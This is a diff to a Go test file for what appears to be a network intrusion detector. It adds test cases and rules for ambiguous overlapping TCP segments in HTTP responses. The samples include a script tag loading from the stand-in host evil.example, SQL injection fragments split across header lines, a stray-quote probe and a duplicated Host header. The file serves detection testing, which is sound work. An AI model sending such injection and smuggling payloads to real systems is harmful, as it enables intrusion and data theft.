@@ -50,6 +50,34 @@ GET /items HTTP/1.1\r\nHost: h\r\nX-Q: 1' UN\r\n ION SEL\r\n ECT password FR\r\n
 -- client f quoted --
 GET /items HTTP/1.1\r\nHost: h\r\nHost: inner.example\r\n\r\n
 `, "inner-host", "call.alt", "host_ambiguous"},
+	{"in the loser of two segments of a response", `
+-- client g quoted --
+GET /page HTTP/1.1\r\nHost: h\r\n\r\n
+-- segment server g pos=39 --
+<b>all is well, do go on.</b>..
+-- segment server g pos=39 --
+<script src=//evil.example/x.js
+-- segment server g pos=0 --
+HTTP/1.1 200 OK\r\nContent-Length: 31\r\n\r\n
+-- segment server g pos=0 next --
+HTTP/1.1 200 OK\r\nContent-Length: 31\r\n\r\n<b>all is well, do go on.</b>..
+-- segment client g --
+-- client g quoted --
+GET /next HTTP/1.1\r\nHost: h\r\n\r\n
+`, "injected-answer", "resp.body", "overlap_ambiguous"},
+	{"in a response whose beginning comes again", `
+-- client h quoted --
+GET /items?id=1' HTTP/1.1\r\nHost: h\r\n\r\n
+-- segment server h next --
+HTTP/1.1 200 OK\r\nContent-Length: 48\r\n\r\nAll is well with what you have sent us.....
+-- segment server h pos=39 --
+You have an error in your SQL syntax near 1
+-- segment server h next --
+.....
+-- segment client h --
+-- client h quoted --
+GET /next HTTP/1.1\r\nHost: h\r\n\r\n
+`, "sql-error-shown", "resp.body", "overlap_ambiguous"},
 }
 
 const hiddenRules = `id: smuggled-items
@@ -63,6 +91,18 @@ title: A host nobody should ask for
 severity: high
 category: protocol/host-header
 when: req.host == "inner.example"
+---
+id: injected-answer
+title: A script that no page of ours has
+severity: high
+category: protocol/injection
+when: contains_any(resp.body, ["//evil.example/"])
+---
+id: sql-error-shown
+title: A database's error in an answer
+severity: high
+category: protocol/injection
+when: sql_error(resp)
 `
 
 func hiddenSet(t *testing.T) *detect.Set {
